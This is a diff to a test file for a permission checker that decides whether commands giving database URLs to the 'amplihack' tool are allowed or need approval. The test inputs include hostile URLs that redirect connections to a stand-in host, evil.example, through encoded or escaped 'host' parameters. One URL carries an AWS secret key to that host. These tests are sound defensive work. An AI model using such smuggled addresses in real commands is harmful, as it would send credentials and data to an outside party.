@@ -39,6 +39,9 @@ describe("an address that a command of amplihack is given", () => {
       "postgres://localhost@evil.example/x",
       "postgres://localhost,evil.example/x",
       "'postgres://localhost/x?host=evil.example'",
+      "'postgres://localhost/x?%68ost=evil.example'",
+      "'postgres://localhost/x?sslmode=disable&ho%73t=evil.example'",
+      "$'postgres://localhost/x?h\\tost=evil.example'",
       '"postgres://evil.example/$AWS_SECRET_ACCESS_KEY"',
       '"$URL"',
     ]) {
@@ -53,12 +56,18 @@ describe("an address that a command of amplihack is given", () => {
     expect(verdictOf(`export AMPLIHACK_DATABASE_URL=postgres://evil.example/x; amplihack ${command}`)).toBe(
       "ask",
     );
+    expect(verdictOf(`set -a; AMPLIHACK_DATABASE_URL=postgres://evil.example/x; amplihack ${command}`)).toBe(
+      "ask",
+    );
   });
 
   it.each(COMMANDS)("is free when it is configured, or on this machine: %s", command => {
     expect(verdictOf(`amplihack ${command}`)).toBe("allow");
     expect(verdictOf(`amplihack ${command} --url postgres://ann@localhost:5432/x`)).toBe("allow");
     expect(verdictOf(`amplihack ${command} --url postgres://[::1]/x`)).toBe("allow");
+    expect(verdictOf(`amplihack ${command} --url 'postgres://localhost/x?sslmode=disable&port=5433'`)).toBe(
+      "allow",
+    );
     expect(verdictOf(`amplihack ${command} --help`)).toBe("allow");
   });
 
